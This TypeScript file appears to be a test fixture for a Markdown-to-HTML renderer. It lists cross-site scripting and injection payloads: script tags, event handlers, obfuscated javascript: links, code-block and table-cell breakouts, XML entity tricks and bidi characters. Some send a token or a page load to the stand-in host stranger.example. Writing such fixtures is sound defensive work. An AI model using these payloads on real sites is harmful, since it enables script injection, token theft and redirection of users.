/** A word that no contract has: it shows that a text arrived. */
export const MARK = 'hostileword';

/** What a stranger writes into the description of something, by what it tries. Each is taken by another part of what makes HTML of Markdown. */
export const DESCRIPTIONS = {
  'an element that runs': `<script>${MARK}()</script>`,
  'a picture that runs when it fails': `${MARK} <img src=x onerror="${MARK}()">`,
  'a drawing that runs when it loads': `${MARK} <svg onload=${MARK}()><animate onbegin=${MARK}() /></svg>`,
  'a frame with a document of its own': `${MARK} <iframe srcdoc="<script>${MARK}()</script>"></iframe>`,
  'a form to elsewhere': `${MARK} <form action="https://stranger.example"><input name=token><button>Send</button></form>`,
  'an address for all links': `<base href="https://stranger.example/"> ${MARK}`,
  'a page that leads away': `<meta http-equiv=refresh content="0;url=https://stranger.example/${MARK}">`,
  'a style for the page': `<style>main { display: none } /* ${MARK} */</style>`,
  'a link that runs': `[${MARK}](javascript:run())`,
  'a link that runs, in entities': `[${MARK}](java&#115;cript&colon;run())`,
  'a link that runs, with a tab in its scheme': `[${MARK}](<java\tscript:run()>)`,
  'a link that runs, by a definition': `[${MARK}][x]\n\n[x]: <JaVaScRiPt:run()>`,
  'an address that runs, between angle brackets': `${MARK} <javascript:run()>`,
  'a link to data': `[${MARK}](data:text/html,<script>run()</script>)`,
  'a picture from elsewhere': `![${MARK}](https://stranger.example/pixel.png)`,
  'a picture from elsewhere, by a definition': `![${MARK}][p]\n\n[p]: https://stranger.example/pixel.png`,
  'an attribute after the title of a link': `[${MARK}](/a.html '" onmouseover="run()')`,
  'an attribute after an address': `[${MARK}](</a.html" onmouseover="run()>)`,
  'an end of code': `\`</code><script>${MARK}()</script>\``,
  'an end of a block of code': `\`\`\`"><script>\n</code></pre><img src=x onerror=run()> ${MARK}\n\`\`\``,
  'an end of its cell': `| ${MARK} |\n|---|\n| </td></tr></table><script>run()</script> |`,
  'a comment that does not end': `${MARK} <!-- <script>`,
  'an end of the page': `${MARK} </main></div></body></html><script>run()</script>`,
  'an id of the page': `<a id="__docusaurus" name="body">${MARK}</a>`,
} as const;

/** What a stranger writes into code, data or a document that a page shows. */
export const CODE = {
  'an end of its block': `</code></pre><script>${MARK}()</script>`,
  'an end of a section of characters': `<a><![CDATA[ ]]><img src=x onerror=run()> ${MARK} ]]></a>`,
  'a comment with markup': `<!-- --><svg onload=run()> ${MARK} -->`,
  'an instruction with a style sheet': `<?xml-stylesheet href="javascript:run()"?><x>${MARK}</x>`,
  'an attribute with markup': `<a b='"><script>${MARK}()</script>'/>`,
  'markup in characters by number': `<a>&#60;script&#62;${MARK}()&#60;/script&#62;</a>`,
  'an entity with markup': `<!DOCTYPE a [<!ENTITY x "<script>${MARK}()</script>">]><a>&x;</a>`,
  'an element named like one of HTML': `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${MARK}()</html:script>`,
  'marks that turn the text around': `<a>\u202e${MARK}\u2066</a><script>`,
} as const;
